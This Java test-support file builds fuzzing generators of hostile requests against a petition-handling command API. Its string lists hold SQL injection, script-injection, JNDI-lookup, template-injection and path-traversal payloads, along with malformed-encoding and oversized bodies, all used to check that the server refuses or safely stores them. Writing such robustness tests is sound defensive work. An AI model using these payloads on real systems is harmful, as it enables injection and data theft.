package cn.luzhi.command.web;

import static java.nio.charset.StandardCharsets.UTF_8;

import cn.luzhi.command.support.ReferenceData;
import java.io.ByteArrayOutputStream;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import org.quicktheories.core.Gen;
import org.quicktheories.core.RandomnessSource;
import org.quicktheories.impl.Constraint;

/**
 * Generators of hostile requests to the command API, built from each route's command record so that new routes
 * and new fields are covered without a change here: bodies whose fields are plausible, of the wrong type, missing,
 * extra, oversized, full of SQL or markup, numbers too large for any type, dates out of range and unknown enum
 * values; and bodies broken as a whole (deep nesting, invalid UTF-8, UTF-16, wrong content type, ...).
 */
final class HostilePayloads {

    /** One request: where, as whom, with which content type and bytes, and what the generator meant by it. */
    record Attempt(CommandRoute route, String path, String user, String contentType, byte[] body, String ifMatch,
                   String idempotencyKey, String description) {

        @Override
        public String toString() {
            String text = new String(body, UTF_8);
            return "POST " + path + " as " + user + " [" + contentType + "] " + description + " body("
                    + body.length + " bytes)=" + (text.length() > 300 ? text.substring(0, 300) + "…" : text)
                    + (ifMatch != null ? " If-Match=" + ifMatch : "")
                    + (idempotencyKey != null ? " Idempotency-Key=" + idempotencyKey : "");
        }
    }

    /** Roles that may send commands at all; which of them may send which command is the access rules' business. */
    static final List<String> SENDERS = List.of("citizen", "deputy", "clerk", "unit", "supervisor", "admin");

    static final String JSON = "application/json";
    private static final int NONE = -1;
    private static final int ANY = -2;
    static final int DEEP = 10_000;

    /** Strings that must be stored as they are or refused, never executed or allowed to break a query. */
    static final List<String> HOSTILE_TEXTS = List.of(
            "'; DROP TABLE domain_event_entry; --",
            "\" OR 1=1 --",
            "1; SELECT pg_sleep(10)",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "javascript:alert(1)",
            "${jndi:ldap://example.invalid/a}",
            "{{7*7}}",
            "../../etc/passwd",
            "\u202Eevil\u202C",
            "😀👨‍👩‍👧‍👦",
            " ",
            "",
            "\t\r\n",
            "a\u0000b",
            "\u0000",
            "\u0007\u001b[31m",
            "x".repeat(100_000));

    /** JSON fragments (raw text) that fit no field: numbers beyond any type, broken dates, strange shapes. */
    static final List<String> HOSTILE_FRAGMENTS = List.of(
            "1e400", "-1e400", "1e-400", "1208925819614629174706176", "-9223372036854775809",
            "9223372036854775808", "0.1e999999999", "123456789012345678901234567890.123456789", "-0", "0.0000001",
            "\"0000-01-01\"", "\"+999999999-12-31\"", "\"-999999999-01-01\"", "\"2026-02-30\"", "\"2026-13-01\"",
            "\"0000-01-01T00:00:00Z\"", "\"+999999999-12-31T23:59:59Z\"", "\"-999999999-01-01T00:00:00Z\"",
            "\"+1000000000-12-31T23:59:59Z\"", "\"2026-11-22T25:61:00Z\"", "\"2026-11-22\"", "\"1e400\"",
            "\"NOT_A_VALUE\"", "\"petition\"", "\"\\ud800\"", "\"\\udfff x\"", "\"\\u0000\"",
            "null", "true", "[]", "{}", "[1,2,3]", "{\"x\":1}", "[null]", "[\"\"]", "\"\"",
            "[".repeat(600) + "]".repeat(600));

    /** The shared reference data as collection/id: never acted on as its own kind, only as an id of another kind. */
    static final List<String> REFERENCE_IDS = referenceIds();

    private final Set<String> createdIds = ConcurrentHashMap.newKeySet();
    private final List<String> createdByCollection = new CopyOnWriteArrayList<>();

    private final List<String> moreUnits = new CopyOnWriteArrayList<>();

    /** A handling unit besides the reference data's (a procuratorate, which some commands must name). */
    void unit(String id) {
        moreUnits.add(id);
    }

    /** Remembers a record a 2xx created, so that later attempts also act on cases that exist. */
    void created(String collection, String id) {
        if (createdIds.add(collection + "/" + id)) {
            createdByCollection.add(collection + "/" + id);
        }
    }

    /** An attempt at one of the routes with a body built field by field from its command record. */
    Gen<Attempt> fieldLevel(List<CommandRoute> routes) {
        return in -> {
            CommandRoute route = pick(in, routes);
            StringBuilder description = new StringBuilder();
            // Half the attempts spoil a single field of an otherwise sensible command, so that they get past the
            // first check and reach the aggregate, the vault and the deadlines; the rest spoil fields at random.
            int fields = route.commandType().getRecordComponents().length;
            int spoilt = in.next(Constraint.between(0, 1)) == 0 ? (int) in.next(Constraint.between(0, fields - 1)) : ANY;
            String body = object(in, route.commandType(), 0, description, !route.creates(), spoilt);
            return new Attempt(route, path(in, route), pick(in, SENDERS), JSON, body.getBytes(UTF_8),
                    ifMatch(in), idempotencyKey(in), description.toString());
        };
    }

    /** An attempt whose body is broken as a whole, or sent as something other than JSON. */
    Gen<Attempt> wholeBody(List<CommandRoute> routes) {
        return in -> {
            CommandRoute route = pick(in, routes);
            StringBuilder description = new StringBuilder();
            String plausible = object(in, route.commandType(), 0, description, !route.creates(), NONE);
            int kind = (int) in.next(Constraint.between(0, 27));
            String contentType = JSON;
            byte[] body;
            String what;
            switch (kind) {
                case 0 -> { body = new byte[0]; what = "empty body"; }
                case 1 -> { body = bytes("null"); what = "null"; }
                case 2 -> { body = bytes("[]"); what = "array"; }
                case 3 -> { body = bytes("\"text\""); what = "string"; }
                case 4 -> { body = bytes("1e400"); what = "number"; }
                case 5 -> { body = bytes("[".repeat(DEEP) + "]".repeat(DEEP)); what = "10,000 nested arrays"; }
                case 6 -> { body = bytes("{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP)); what = "10,000 nested objects"; }
                case 7 -> { body = concat(bytes("{\"title\": \""), new byte[] {(byte) 0xC3, 0x28}, bytes("\"}"));
                    what = "invalid UTF-8 sequence"; }
                case 8 -> { body = concat(bytes("{\"title\": \""), new byte[] {(byte) 0xC0, (byte) 0xAF}, bytes("\"}"));
                    what = "overlong UTF-8"; }
                case 9 -> { body = concat(bytes("{\"title\": \""), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                        bytes("\"}")); what = "UTF-8-encoded surrogate"; }
                case 10 -> { body = new byte[] {(byte) 0xFF, (byte) 0xFE, (byte) 0xFD, 0x00, 0x7B}; what = "binary"; }
                case 11 -> { body = concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                        plausible.getBytes(StandardCharsets.UTF_16LE)); what = "UTF-16LE with BOM"; }
                case 12 -> { body = plausible.getBytes(StandardCharsets.UTF_16BE); what = "UTF-16BE without BOM"; }
                case 13 -> { body = concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, bytes(plausible));
                    what = "UTF-8 BOM"; }
                case 14 -> { body = bytes(plausible.substring(0, plausible.length() / 2)); what = "truncated"; }
                case 15 -> { body = bytes(plausible + " {}"); what = "trailing document"; }
                case 16 -> { body = bytes("{/* c */ 'title': NaN, unquoted: Infinity, \"n\": 0012}"); what = "JSON5-isms"; }
                case 17 -> { body = bytes("{\"title\": \"a\", \"title\": \"b\"}"); what = "duplicate keys"; }
                case 18 -> { body = bytes("{\"title\": \"" + "长".repeat(500_000) + "\"}"); what = "1.5 MB body"; }
                case 19 -> { body = bytes("{\"n\": " + "9".repeat(100_000) + "}"); what = "100,000-digit number"; }
                case 20 -> { body = bytes(manyFields()); what = "50,000 fields"; }
                case 21 -> { body = bytes(plausible); contentType = "text/plain"; what = "text/plain"; }
                case 22 -> { body = bytes("<petition><title>x</title></petition>"); contentType = "application/xml";
                    what = "XML"; }
                case 23 -> { body = bytes("title=x&content=y"); contentType = "application/x-www-form-urlencoded";
                    what = "form"; }
                case 24 -> { body = bytes(plausible); contentType = null; what = "no content type"; }
                case 25 -> { body = bytes(plausible); contentType = "application/json; charset=UTF-16"; what = "UTF-8 sent as UTF-16"; }
                case 26 -> { body = bytes(plausible); contentType = "application/json; charset=nonsense"; what = "unknown charset"; }
                default -> { body = bytes("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--\r\n");
                    contentType = "multipart/form-data; boundary=x"; what = "multipart"; }
            }
            return new Attempt(route, path(in, route), pick(in, SENDERS), contentType, body, ifMatch(in),
                    idempotencyKey(in), what);
        };
    }

    /** A body for the route that a well-meaning client could send: every field plausible, none spoilt. */
    Gen<String> wellMeant(CommandRoute route) {
        return in -> object(in, route.commandType(), 0, new StringBuilder(), !route.creates(), NONE);
    }

    /**
     * A JSON object for a record: every field sensible ({@link #NONE}), every field at random ({@link #ANY}), or
     * only the field at index {@code spoilt} hostile.
     */
    private String object(RandomnessSource in, Class<?> type, int depth, StringBuilder description, boolean action,
                          int spoilt) {
        boolean wellMeant = spoilt == NONE;
        List<String> fields = new ArrayList<>();
        RecordComponent[] components = type.getRecordComponents();
        for (int index = 0; index < components.length; index++) {
            RecordComponent component = components[index];
            // The id of the case an action targets comes from the path; the body may not repeat it.
            if (action && depth == 0 && isTargetId(type, component)) {
                continue;
            }
            int choice = wellMeant || spoilt >= 0 && index != spoilt ? 0
                    : spoilt >= 0 ? (int) in.next(Constraint.between(10, 19))
                    : (int) in.next(Constraint.between(0, 19));
            if (choice >= 17) {
                description.append(component.getName()).append(" missing; ");
                continue;
            }
            String value;
            if (index == spoilt && isNestedRecord(component.getType()) && in.next(Constraint.between(0, 1)) == 0) {
                // Spoil one field inside the nested record instead (a petitioner's name, a milestone's date).
                int inner = (int) in.next(Constraint.between(0, component.getType().getRecordComponents().length - 1));
                description.append(component.getName()).append(": ");
                value = object(in, component.getType(), depth + 1, description, false, inner);
            } else if (choice < 10) {
                value = plausibleValue(in, component.getGenericType(), depth, component.getName());
            } else if (choice < 15) {
                value = hostileText(in);
                description.append(component.getName()).append(" hostile text; ");
            } else {
                value = pick(in, HOSTILE_FRAGMENTS);
                description.append(component.getName()).append(" = ").append(abbreviate(value)).append("; ");
            }
            fields.add(quote(component.getName()) + ": " + value);
        }
        if (spoilt == ANY && in.next(Constraint.between(0, 9)) == 0) {
            fields.add(quote(pick(in, List.of("unexpected", "__proto__", "@class", "constructor", "actorId")))
                    + ": " + pick(in, HOSTILE_FRAGMENTS));
            description.append("extra field; ");
        }
        return "{" + String.join(", ", fields) + "}";
    }

    private static boolean isNestedRecord(Class<?> type) {
        return type.isRecord() && type.getRecordComponents().length > 1;
    }

    private String plausibleValue(RandomnessSource in, Type type, int depth, String name) {
        if (type instanceof ParameterizedType generic && generic.getRawType() instanceof Class<?> raw
                && Collection.class.isAssignableFrom(raw)) {
            int size = (int) in.next(Constraint.between(0, 3));
            List<String> items = new ArrayList<>();
            for (int i = 0; i < size; i++) {
                items.add(plausibleValue(in, generic.getActualTypeArguments()[0], depth + 1, name));
            }
            return "[" + String.join(", ", items) + "]";
        }
        Class<?> raw = type instanceof Class<?> c ? c : Object.class;
        if (raw == String.class && name.toLowerCase().contains("phone")) {
            return quote("1370000" + (1000 + in.next(Constraint.between(0, 8999))));
        }
        if (raw == String.class && name.equals("idNumber")) {
            return quote("15010219900101" + (1000 + in.next(Constraint.between(0, 8999))));
        }
        if (raw == String.class && name.equals("link")) {
            return quote("https://www.example.gov.cn/draft-" + in.next(Constraint.between(1, 99)) + ".pdf");
        }
        if (raw == String.class) {
            return quote(pick(in, List.of("路灯不亮", "小区门口路灯坏了三个月，夜间出行不便", "请尽快处理", "办公室", "A")));
        }
        if (raw.isEnum()) {
            Object[] constants = raw.getEnumConstants();
            return quote(constants[(int) in.next(Constraint.between(0, constants.length - 1))].toString());
        }
        if (raw == Instant.class) {
            return quote(Instant.now().plus(in.next(Constraint.between(-30, 90)), ChronoUnit.DAYS)
                    .truncatedTo(ChronoUnit.SECONDS).toString());
        }
        if (raw == LocalDate.class && name.equals("closesOn")) {
            // A comment period closes in the future.
            return quote(LocalDate.now(java.time.ZoneId.of("Asia/Shanghai"))
                    .plusDays(in.next(Constraint.between(1, 60))).toString());
        }
        if (raw == LocalDate.class) {
            return quote(LocalDate.of(2026, 1, 1).plusDays(in.next(Constraint.between(0, 364))).toString());
        }
        if (raw == int.class || raw == Integer.class || raw == long.class || raw == Long.class) {
            return String.valueOf(in.next(Constraint.between(0, 2030)));
        }
        if (raw == java.math.BigDecimal.class || raw == double.class || raw == Double.class) {
            return in.next(Constraint.between(0, 100_000)) + ".50";
        }
        if (raw == boolean.class || raw == Boolean.class) {
            return String.valueOf(in.next(Constraint.between(0, 1)) == 1);
        }
        if (raw.isRecord() && raw.getRecordComponents().length == 1
                && raw.getRecordComponents()[0].getType() == String.class) {
            return quote(knownId(in, raw.getSimpleName()));
        }
        if (raw.isRecord() && depth < 4) {
            return object(in, raw, depth + 1, new StringBuilder(), false, NONE);
        }
        return quote("?");
    }

    /** Ids of records that exist (reference data, cases created earlier), mixed with ones that do not. */
    private String knownId(RandomnessSource in, String idType) {
        List<String> known = switch (idType) {
            case "RegionId" -> concat(ReferenceData.TOWNS, List.of(ReferenceData.DISTRICT));
            case "DeputyId" -> ReferenceData.DEPUTIES;
            case "StationId" -> List.of(ReferenceData.STATION);
            case "HandlingUnitId" -> concat(concat(ReferenceData.UNITS, List.of(ReferenceData.COURT)), moreUnits);
            default -> createdByCollection.stream().map(key -> key.substring(key.indexOf('/') + 1)).toList();
        };
        if (known.isEmpty() || in.next(Constraint.between(0, 4)) == 0) {
            return "no-such-" + in.next(Constraint.between(0, 1_000_000));
        }
        return pick(in, known);
    }

    private String path(RandomnessSource in, CommandRoute route) {
        if (route.creates()) {
            return "/api/" + route.collection();
        }
        List<String> ours = createdByCollection.stream().filter(key -> key.startsWith(route.collection() + "/"))
                .map(key -> key.substring(key.indexOf('/') + 1)).toList();
        // Actions go to records this test created, never to the shared reference data: a random command that
        // succeeded could rename, move or retire a region, deputy or unit the other tests rely on. Records of
        // another kind (reference data included) must be answered like ids that do not exist.
        List<String> otherKinds = concat(createdByCollection, REFERENCE_IDS).stream()
                .filter(key -> !key.startsWith(route.collection() + "/"))
                .map(key -> key.substring(key.indexOf('/') + 1)).toList();
        int choice = (int) in.next(Constraint.between(0, 9));
        String id;
        if (choice < 5 && !ours.isEmpty()) {
            id = pick(in, ours);
        } else if (choice < 7) {
            id = pick(in, otherKinds);
        } else if (choice < 8) {
            id = "no-such-case-" + in.next(Constraint.between(0, 1_000_000));
        } else {
            id = pick(in, List.of("' OR '1'='1", "<script>", "a/b", "%00", "..", "x".repeat(300), "诉求",
                    "%2e%2e%2f", "a;b", "a\\b"));
        }
        return "/api/" + route.collection() + "/" + encode(id) + "/" + route.action();
    }

    private static String ifMatch(RandomnessSource in) {
        int choice = (int) in.next(Constraint.between(0, 9));
        return choice < 7 ? null : List.of("\"1\"", "abc", "99999999999999999999999", "W/\"-1\"").get(choice - 7 + (int) in.next(Constraint.between(0, 1)));
    }

    private static String idempotencyKey(RandomnessSource in) {
        int choice = (int) in.next(Constraint.between(0, 9));
        return switch (choice) {
            case 7 -> "short";
            case 8 -> "k".repeat(7_000);
            case 9 -> "fuzz-" + in.next(Constraint.between(0, 20));
            default -> null;
        };
    }

    private static String hostileText(RandomnessSource in) {
        return quote(pick(in, HOSTILE_TEXTS));
    }

    private static boolean isTargetId(Class<?> type, RecordComponent component) {
        try {
            return type.getDeclaredField(component.getName())
                    .isAnnotationPresent(org.axonframework.modelling.command.TargetAggregateIdentifier.class);
        } catch (NoSuchFieldException e) {
            throw new IllegalStateException(e);
        }
    }

    private static List<String> referenceIds() {
        List<String> ids = new ArrayList<>();
        ids.add("regions/" + ReferenceData.DISTRICT);
        ReferenceData.TOWNS.forEach(id -> ids.add("regions/" + id));
        ids.add("stations/" + ReferenceData.STATION);
        ReferenceData.DEPUTIES.forEach(id -> ids.add("deputies/" + id));
        ReferenceData.UNITS.forEach(id -> ids.add("units/" + id));
        ids.add("units/" + ReferenceData.COURT);
        return List.copyOf(ids);
    }

    private static String manyFields() {
        StringBuilder body = new StringBuilder("{");
        for (int i = 0; i < 50_000; i++) {
            body.append(i == 0 ? "" : ",").append("\"f").append(i).append("\":").append(i);
        }
        return body.append('}').toString();
    }

    static <T> T pick(RandomnessSource in, List<T> values) {
        return values.get((int) in.next(Constraint.between(0, values.size() - 1)));
    }

    /** A JSON string literal; control characters and lone surrogates are written as \\u escapes. */
    static String quote(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (Character.isHighSurrogate(c) && i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1))) {
                quoted.append(c).append(text.charAt(++i));
            } else if (c == '"' || c == '\\') {
                quoted.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c)) {
                quoted.append(String.format("\\u%04x", (int) c));
            } else {
                quoted.append(c);
            }
        }
        return quoted.append('"').toString();
    }

    private static String encode(String id) {
        return java.net.URLEncoder.encode(id, UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String text) {
        return text.length() > 40 ? text.substring(0, 40) + "…" : text;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static List<String> concat(List<String> a, List<String> b) {
        List<String> all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }
}
